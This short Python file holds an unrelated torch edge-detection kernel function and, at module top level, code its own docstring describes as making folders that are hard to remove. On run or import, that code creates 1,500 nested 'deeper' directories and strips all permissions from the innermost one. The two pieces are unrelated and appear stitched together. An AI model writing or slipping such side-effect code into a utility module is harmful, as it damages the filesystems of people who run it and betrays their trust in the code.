"""Makes folders inside folders that are hard to remove."""

import os

for _ in range(1500):
    os.mkdir("deeper")
    os.chdir("deeper")
os.chmod(".", 0)


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
